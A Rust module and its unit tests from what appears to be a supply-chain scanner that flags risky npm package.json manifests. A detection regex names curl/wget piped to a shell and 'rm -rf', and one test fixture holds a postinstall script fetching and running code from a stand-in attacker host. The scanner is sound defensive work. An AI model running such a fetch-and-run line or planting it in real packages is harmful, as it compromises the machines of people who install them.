//! # Manifest Analyzer
//!
//! Inspects a package's `package.json` for the declared-intent signals
//! named in spec §4.3.5: lifecycle scripts that shell out, dependencies
//! pulled from outside the registry, malice-word-list keywords, and an
//! unusual `main` entry point.

use std::sync::OnceLock;

use regex::Regex;
use scanner_core::{PackageRef, Severity, Threat, ThreatKind};
use serde_json::Value;

const LIFECYCLE_SCRIPTS: &[&str] = &["preinstall", "postinstall", "prepare", "install"];
const NON_REGISTRY_SCHEMES: &[&str] = &["http://", "git://", "file://"];
const EXPECTED_MAIN_EXTENSIONS: &[&str] = &["js", "cjs", "mjs", "json"];
const MALICE_KEYWORDS: &[&str] = &["keylogger", "ransomware", "backdoor", "c2", "rat", "stealer", "exploit-kit"];

fn command_injection_pattern() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?:curl|wget)\s+[^\s]+\s*\|\s*(?:sh|bash)|&&\s*rm\s+-rf|\$\(.*\)|`.*`")
            .expect("command injection pattern is valid")
    })
}

/// Inspects a parsed `package.json` document.
pub struct ManifestAnalyzer;

impl ManifestAnalyzer {
    /// `raw` is the manifest's raw JSON text; `file_path` is attached to
    /// every finding so SARIF/table output can point at the manifest.
    /// Invalid JSON produces no findings rather than aborting the scan; a
    /// malformed manifest is the Target Resolver's concern, not this
    /// analyzer's.
    #[must_use]
    pub fn analyze(package: &PackageRef, file_path: &str, raw: &str) -> Vec<Threat> {
        let Ok(manifest) = serde_json::from_str::<Value>(raw) else {
            return Vec::new();
        };

        let mut threats = Vec::new();
        Self::check_lifecycle_scripts(package, file_path, &manifest, &mut threats);
        Self::check_dependency_sources(package, file_path, &manifest, &mut threats);
        Self::check_keywords(package, file_path, &manifest, &mut threats);
        Self::check_main_entry(package, file_path, &manifest, &mut threats);
        threats
    }

    fn check_lifecycle_scripts(package: &PackageRef, file_path: &str, manifest: &Value, threats: &mut Vec<Threat>) {
        let Some(scripts) = manifest.get("scripts").and_then(Value::as_object) else { return };
        for name in LIFECYCLE_SCRIPTS {
            let Some(command) = scripts.get(*name).and_then(Value::as_str) else { continue };
            if command_injection_pattern().is_match(command) {
                threats.push(
                    Threat::new(
                        ThreatKind::SuspiciousScript,
                        Severity::Critical,
                        0.85,
                        format!("lifecycle script `{name}` contains a command-injection pattern"),
                        package.clone(),
                    )
                    .with_location(file_path, None)
                    .with_sample(command),
                );
            }
        }
    }

    fn check_dependency_sources(package: &PackageRef, file_path: &str, manifest: &Value, threats: &mut Vec<Threat>) {
        for field in ["dependencies", "devDependencies", "optionalDependencies"] {
            let Some(deps) = manifest.get(field).and_then(Value::as_object) else { continue };
            for (name, spec) in deps {
                let Some(spec) = spec.as_str() else { continue };
                if NON_REGISTRY_SCHEMES.iter().any(|scheme| spec.starts_with(scheme)) {
                    threats.push(
                        Threat::new(
                            ThreatKind::SuspiciousDependency,
                            Severity::High,
                            0.6,
                            format!("dependency `{name}` resolves outside the registry: {spec}"),
                            package.clone(),
                        )
                        .with_location(file_path, None),
                    );
                }
            }
        }
    }

    fn check_keywords(package: &PackageRef, file_path: &str, manifest: &Value, threats: &mut Vec<Threat>) {
        let Some(keywords) = manifest.get("keywords").and_then(Value::as_array) else { return };
        for keyword in keywords {
            let Some(keyword) = keyword.as_str() else { continue };
            let lower = keyword.to_ascii_lowercase();
            if MALICE_KEYWORDS.contains(&lower.as_str()) {
                threats.push(
                    Threat::new(
                        ThreatKind::SuspiciousKeyword,
                        Severity::Medium,
                        0.5,
                        format!("keyword `{keyword}` appears on the malice word list"),
                        package.clone(),
                    )
                    .with_location(file_path, None),
                );
            }
        }
    }

    fn check_main_entry(package: &PackageRef, file_path: &str, manifest: &Value, threats: &mut Vec<Threat>) {
        let Some(main) = manifest.get("main").and_then(Value::as_str) else { return };
        let ext = main.rsplit('.').next().unwrap_or("").to_ascii_lowercase();
        if !ext.is_empty() && !EXPECTED_MAIN_EXTENSIONS.contains(&ext.as_str()) {
            threats.push(
                Threat::new(
                    ThreatKind::UnusualMainFile,
                    Severity::Medium,
                    0.4,
                    format!("main entry point `{main}` has an unusual extension `.{ext}`"),
                    package.clone(),
                )
                .with_location(file_path, None),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn package() -> PackageRef {
        PackageRef::named("evil-package", "1.0.0")
    }

    #[test]
    fn clean_manifest_has_no_findings() {
        let manifest = r#"{"name": "ok", "version": "1.0.0", "main": "index.js", "scripts": {"test": "jest"}}"#;
        assert!(ManifestAnalyzer::analyze(&package(), "package.json", manifest).is_empty());
    }

    #[test]
    fn invalid_json_produces_no_findings() {
        assert!(ManifestAnalyzer::analyze(&package(), "package.json", "{not json").is_empty());
    }

    #[test]
    fn postinstall_with_curl_pipe_shell_is_critical() {
        let manifest = r#"{"scripts": {"postinstall": "curl http://evil.sh/x | sh"}}"#;
        let threats = ManifestAnalyzer::analyze(&package(), "package.json", manifest);
        assert!(threats.iter().any(|t| t.kind == ThreatKind::SuspiciousScript && t.severity == Severity::Critical));
    }

    #[test]
    fn ordinary_build_script_is_not_flagged() {
        let manifest = r#"{"scripts": {"postinstall": "node-gyp rebuild"}}"#;
        assert!(ManifestAnalyzer::analyze(&package(), "package.json", manifest).is_empty());
    }

    #[test]
    fn git_dependency_url_is_flagged() {
        let manifest = r#"{"dependencies": {"left-pad": "git://github.com/evil/left-pad.git"}}"#;
        let threats = ManifestAnalyzer::analyze(&package(), "package.json", manifest);
        assert!(threats.iter().any(|t| t.kind == ThreatKind::SuspiciousDependency));
    }

    #[test]
    fn semver_dependency_is_not_flagged() {
        let manifest = r#"{"dependencies": {"left-pad": "^1.3.0"}}"#;
        assert!(ManifestAnalyzer::analyze(&package(), "package.json", manifest).is_empty());
    }

    #[test]
    fn malice_keyword_is_flagged() {
        let manifest = r#"{"keywords": ["utility", "backdoor"]}"#;
        let threats = ManifestAnalyzer::analyze(&package(), "package.json", manifest);
        assert!(threats.iter().any(|t| t.kind == ThreatKind::SuspiciousKeyword));
    }

    #[test]
    fn unusual_main_extension_is_flagged() {
        let manifest = r#"{"main": "index.exe"}"#;
        let threats = ManifestAnalyzer::analyze(&package(), "package.json", manifest);
        assert!(threats.iter().any(|t| t.kind == ThreatKind::UnusualMainFile));
    }
}
